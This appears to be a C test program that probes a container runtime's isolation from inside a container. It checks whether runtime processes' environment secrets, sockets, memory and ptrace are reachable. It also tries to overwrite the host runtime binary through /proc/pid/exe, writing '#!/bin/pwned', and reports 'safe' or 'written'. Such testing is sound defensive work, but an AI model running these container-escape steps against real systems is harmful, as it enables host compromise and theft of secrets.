/* attack-look.c - a process of a container that looks into those that come by: the runtime while
 * it starts another container in the same namespaces. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Programs of the containers themselves. */
static int is_ours(const char *exe)
{
    const char *name = strrchr(exe, '/');

    name = name ? name + 1 : exe;
    return strncmp(name, "busybox", 7) == 0 || strncmp(name, "attack", 6) == 0;
}

/* Calls look(pid) for every process but this one, until it says stop or the time is over. */
static void each_process(long ms, int (*look)(int pid))
{
    long end = now_ms() + ms;

    do {
        DIR *proc = opendir("/proc");

        if (!proc)
            die("/proc");
        for (struct dirent *d = readdir(proc); d; d = readdir(proc)) {
            int pid = atoi(d->d_name);

            if (pid > 0 && pid != getpid() && look(pid)) {
                closedir(proc);
                return;
            }
        }
        closedir(proc);
    } while (now_ms() < end);
}

static ssize_t link_of(int pid, const char *name, char *text, size_t size)
{
    char path[96];
    ssize_t n;

    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    n = readlink(path, text, size - 1);
    text[n < 0 ? 0 : n] = '\0';
    return n;
}

/* ---- hunt: is anything of a process of the runtime open to us? ------------------------------- */

static struct {
    const char *secret;
    long seen, hidden, exe, environ, fd, mem, traced;
} hunt;

static int open_of(int pid, const char *name, int flags)
{
    char path[64];

    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return open(path, flags | O_CLOEXEC);
}

static int has_secret(int pid)
{
    char text[4096];
    int fd = open_of(pid, "environ", O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text);

    if (fd >= 0)
        close(fd);
    return n > 0 && memmem(text, (size_t)n, hunt.secret, strlen(hunt.secret));
}

static int has_socket(int pid)
{
    char path[64], text[256];
    int found = 0;
    DIR *dir;

    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    dir = opendir(path);
    if (!dir)
        return 0;
    for (struct dirent *d = readdir(dir); d && !found; d = readdir(dir)) {
        snprintf(path, sizeof path, "fd/%.20s", d->d_name);
        if (atoi(d->d_name) > 2 && link_of(pid, path, text, sizeof text) > 0)
            found = strncmp(text, "socket:", 7) == 0 || strncmp(text, "anon_inode:", 11) == 0;
    }
    closedir(dir);
    return found;
}

static int look_hunt(int pid)
{
    char exe[512];
    int mem;

    hunt.seen++;
    /* The secret and the sockets tell by themselves that it is no process of a container. */
    hunt.environ += has_secret(pid);
    hunt.fd += has_socket(pid);
    if (link_of(pid, "exe", exe, sizeof exe) < 0) {
        hunt.hidden += errno == EACCES;
        return 0;
    }
    if (is_ours(exe))
        return 0;
    hunt.exe++;
    mem = open_of(pid, "mem", O_RDWR);
    if (mem >= 0) {
        hunt.mem++;
        close(mem);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        hunt.traced++;
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    return 0;
}

int do_hunt(int argc, char **argv)
{
    if (argc < 3)
        return 99;
    hunt.secret = argv[2];
    each_process(atol(argv[1]), look_hunt);
    printf("hidden %ld\n", hunt.hidden);
    if (hunt.exe || hunt.environ || hunt.fd || hunt.mem || hunt.traced)
        printf("open exe=%ld environ=%ld fd=%ld mem=%ld traced=%ld\n", hunt.exe, hunt.environ,
               hunt.fd, hunt.mem, hunt.traced);
    return 0;
}

/* ---- pidfs: two pidfds of two processes are two inodes, from Linux 6.9 on ------------------- */

int do_pidfs(int argc, char **argv)
{
    struct stat own, parent;
    int a = (int)syscall(SYS_pidfd_open, getpid(), 0);
    int b = (int)syscall(SYS_pidfd_open, getppid(), 0);

    (void)argc;
    (void)argv;
    if (a < 0 || b < 0 || fstat(a, &own) < 0 || fstat(b, &parent) < 0)
        die("pidfd");
    return own.st_ino == parent.st_ino;
}

/* ---- port: a sysctl that can be seen without a procfs -------------------------------------- */

int do_port(int argc, char **argv)
{
    struct sockaddr_in at = { .sin_family = AF_INET };
    int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (argc < 2 || sock < 0)
        return 99;
    at.sin_port = htons((uint16_t)atoi(argv[1]));
    return bind(sock, (struct sockaddr *)&at, sizeof at) == 0 ? 0 : 1;
}

/* ---- grab: the program of the runtime, to write into it when it no longer runs ---------------- */

static int grabbed = -1;
static int grabbed_pid;

static int look_grab(int pid)
{
    char exe[512];
    int fd;

    if (link_of(pid, "exe", exe, sizeof exe) <= 0 || is_ours(exe))
        return 0;
    fd = open_of(pid, "exe", O_RDONLY);
    if (fd < 0)
        return 0;
    /* Once more: it may have become a program of ours in between. */
    if (link_of(pid, "exe", exe, sizeof exe) <= 0 || is_ours(exe)) {
        close(fd);
        return 0;
    }
    grabbed = fd;
    grabbed_pid = pid;
    return 1;
}

/* Prints "none" (never got hold of it), "safe REASON" or "written". */
int do_grab(int argc, char **argv)
{
    char path[64];
    int fd = -1;

    if (argc < 2)
        return 99;
    each_process(atol(argv[1]), look_grab);
    if (grabbed < 0) {
        puts("none");
        return 0;
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", grabbed);
    for (long end = now_ms() + 3000; fd < 0 && now_ms() < end;) {
        fd = open(path, O_WRONLY | O_CLOEXEC);
        /* Busy as long as it runs: a matter of time. */
        if (fd < 0 && errno != ETXTBSY)
            break;
        if (fd < 0)
            nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
    }
    if (fd >= 0 && write(fd, "#!/bin/pwned\n", 13) == 13)
        puts("written");
    else
        printf("safe %s\n", strerror(errno));
    return 0;
}
